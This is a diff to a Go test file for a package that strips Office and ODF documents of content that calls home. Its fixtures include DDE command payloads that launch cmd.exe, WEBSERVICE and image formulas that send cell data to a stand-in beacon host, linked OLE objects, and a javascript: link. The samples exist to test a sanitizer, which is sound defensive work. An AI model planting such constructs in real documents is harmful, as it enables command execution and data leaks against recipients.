@@ -1,11 +1,13 @@
 package clean
 
 import (
+	"archive/zip"
 	"bytes"
 	"encoding/binary"
 	"errors"
 	"fmt"
 	stdpng "image/png"
+	"io"
 	"slices"
 	"strings"
 	"testing"
@@ -105,6 +107,12 @@ func TestNothingOfAnOfficeFileCallsHome(t *testing.T) {
 		"of the package":          {DOCX, wordFile(t, "_rels/.rels", relations("metadata/thumbnail", beacon, true)), "file_remote", beacon},
 		"VML":                     {DOCX, wordFile(t, `<w:pict><v:shape><v:imagedata src="`+beacon+`"/></v:shape></w:pict>`), "file_remote", beacon},
 		"a link that runs":        {DOCX, wordFile(t, rels, relations("hyperlink", "javascript:alert(1)", true)), "file_remote", "javascript:alert(1)"},
+		"a picture by a link":     {DOCX, wordFile(t, `<a:blip r:link="rId1"/>`, rels, relations("hyperlink", beacon, true)), "file_remote", "rId1"},
+		"VML by a link":           {DOCX, wordFile(t, `<v:imagedata r:href="rId1"/>`, rels, relations("hyperlink", beacon, true)), "file_remote", "rId1"},
+		"an object by a link":     {DOCX, wordFile(t, `<o:OLEObject Type="Link" r:id="rId1"/>`, rels, relations("hyperlink", beacon, true)), "file_remote", "Link"},
+		"settings by a link":      {DOCX, wordFile(t, "word/_rels/settings.xml.rels", relations("hyperlink", beacon, true)), "file_remote", beacon},
+		"a film":                  {DOCX, wordFile(t, `<wp15:webVideoPr embeddedHtml="x"/>`), "file_remote", "webVideoPr"},
+		"a database":              {DOCX, wordFile(t, "word/settings.xml", `<w:settings><w:mailMerge><w:connectString w:val="DSN=a"/></w:mailMerge></w:settings>`), "file_remote", "connectString"},
 		"DDE":                     {DOCX, wordFile(t, complexField(` DDEAUTO c:\\windows\\cmd.exe "/k calc" `)), "file_remote", "DDEAUTO"},
 		"DDE in pieces":           {DOCX, wordFile(t, complexField(" D", "DE", `AUTO c:\\a `)), "file_remote", "DDEAUTO"},
 		"DDE, simple":             {DOCX, wordFile(t, `<w:fldSimple w:instr=" dde a b "/>`), "file_remote", "dde a b"},
@@ -126,17 +134,19 @@ func TestNothingOfAnOfficeFileCallsHome(t *testing.T) {
 
 		"another workbook": {XLSX, sheetFile(t, "xl/externalLinks/externalLink1.xml", `<externalLink><externalBook r:id="rId1"/></externalLink>`,
 			"xl/externalLinks/_rels/externalLink1.xml.rels", relations("externalLinkPath", "/bilancio/2025.xlsx", true)), "file_remote", "/bilancio/2025.xlsx"},
-		"a workbook lost":  {XLSX, sheetFile(t, "xl/externalLinks/_rels/externalLink1.xml.rels", relations("externalLinkPath/xlPathMissing", "2025.xlsx", true)), "file_remote", "2025.xlsx"},
-		"DDE of a table":   {XLSX, sheetFile(t, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), "file_remote", "ddeLink"},
-		"DDE of a cell":    {XLSX, sheetFile(t, `<c r="A1"><f>cmd|'/c calc'!A0</f></c>`), "file_remote", "cmd|"},
-		"a connection":     {XLSX, sheetFile(t, "xl/connections.xml", `<connections><connection id="1" name="Anagrafe"><dbPr connection="DSN=a"/></connection></connections>`), "file_remote", "Anagrafe"},
-		"a query":          {XLSX, sheetFile(t, "customXml/item1.xml", `<DataMashup>AAAA</DataMashup>`), "file_remote", "DataMashup"},
-		"a web service":    {XLSX, sheetFile(t, `<c r="A1"><f>1+_xlfn.WEBSERVICE("`+beacon+`?"&amp;A2)</f></c>`), "file_remote", "WEBSERVICE"},
-		"a picture's cell": {XLSX, sheetFile(t, `<c r="A1"><f>_xlfn.image("`+beacon+`")</f></c>`), "file_remote", "image"},
-		"a name's formula": {XLSX, sheetFile(t, "xl/workbook.xml", `<workbook><definedNames><definedName name="a">RTD("a",,"b")</definedName></definedNames></workbook>`), "file_remote", "RTD"},
-		"a sheet's folder": {XLSX, sheetFile(t, `<c r="A1"><f>'https://beacon.example/[a.xlsx]F'!A1</f></c>`), "file_remote", "beacon.example"},
-		"old macros":       {XLSX, sheetFile(t, "xl/macrosheets/sheet1.xml", `<xm:macrosheet/>`), "file_program", ""},
-		"a model":          {XLSX, sheetFile(t, "xl/model/item.data", "x"), "file_inside", ""},
+		"a workbook lost":   {XLSX, sheetFile(t, "xl/externalLinks/_rels/externalLink1.xml.rels", relations("externalLinkPath/xlPathMissing", "2025.xlsx", true)), "file_remote", "2025.xlsx"},
+		"DDE of a table":    {XLSX, sheetFile(t, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), "file_remote", "ddeLink"},
+		"DDE of a cell":     {XLSX, sheetFile(t, `<c r="A1"><f>cmd|'/c calc'!A0</f></c>`), "file_remote", "cmd|"},
+		"a connection":      {XLSX, sheetFile(t, "xl/connections.xml", `<connections><connection id="1" name="Anagrafe"><dbPr connection="DSN=a"/></connection></connections>`), "file_remote", "Anagrafe"},
+		"a query":           {XLSX, sheetFile(t, "customXml/item1.xml", `<DataMashup>AAAA</DataMashup>`), "file_remote", "DataMashup"},
+		"a web service":     {XLSX, sheetFile(t, `<c r="A1"><f>1+_xlfn.WEBSERVICE("`+beacon+`?"&amp;A2)</f></c>`), "file_remote", "WEBSERVICE"},
+		"a picture's cell":  {XLSX, sheetFile(t, `<c r="A1"><f>_xlfn.image("`+beacon+`")</f></c>`), "file_remote", "image"},
+		"a name's formula":  {XLSX, sheetFile(t, "xl/workbook.xml", `<workbook><definedNames><definedName name="a">RTD("a",,"b")</definedName></definedNames></workbook>`), "file_remote", "RTD"},
+		"a sheet's folder":  {XLSX, sheetFile(t, `<c r="A1"><f>'https://beacon.example/[a.xlsx]F'!A1</f></c>`), "file_remote", "beacon.example"},
+		"old macros":        {XLSX, sheetFile(t, "xl/macrosheets/sheet1.xml", `<xm:macrosheet/>`), "file_program", ""},
+		"a web picture":     {XLSX, sheetFile(t, "xl/richData/_rels/rdRichValueWebImage.xml.rels", relations("hyperlink", beacon, true)), "file_remote", beacon},
+		"a workbook's link": {XLSX, sheetFile(t, "xl/externalLinks/_rels/externalLink1.xml.rels", relations("hyperlink", beacon, true)), "file_remote", beacon},
+		"a model":           {XLSX, sheetFile(t, "xl/model/item.data", "x"), "file_inside", ""},
 
 		"a picture of a text":   {ODT, textFile(t, `<draw:frame><draw:image xlink:href="`+beacon+`"/></draw:frame>`), "file_remote", beacon},
 		"one beside the text":   {ODT, textFile(t, `<draw:image xlink:href="../a.png"/>`), "file_remote", "../a.png"},
@@ -277,6 +287,28 @@ func pngFile(t *testing.T) []byte {
 		t.Fatal(err)
 	}
 	return b.Bytes()
+}
+
+// A part has one name: that of the list, which was looked at.
+func TestAPartHasOneName(t *testing.T) {
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	for _, h := range []zip.FileHeader{{Name: "[Content_Types].xml"}, {Name: "word/document.xml"}, {Name: "word/fonts/a.ttf", Comment: secret, Extra: []byte("up\x0d\x00\x01\x00\x00\x00\x00word/x.b")}} {
+		w, err := z.CreateHeader(&h)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := io.WriteString(w, map[string]string{"[Content_Types].xml": opc("wordprocessingml.document"), "word/document.xml": "<w:document/>"}[h.Name]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	out, removed, code := try(t, DOCX, b.Bytes())
+	if code != "" || len(removed) > 0 || bytes.Contains(out, []byte("word/x.b")) || bytes.Contains(out, []byte(secret)) || !bytes.Contains(b.Bytes(), []byte("word/x.b")) {
+		t.Errorf("%q %q %q", removed, code, out)
+	}
 }
 
 // names lists the parts of an archive.
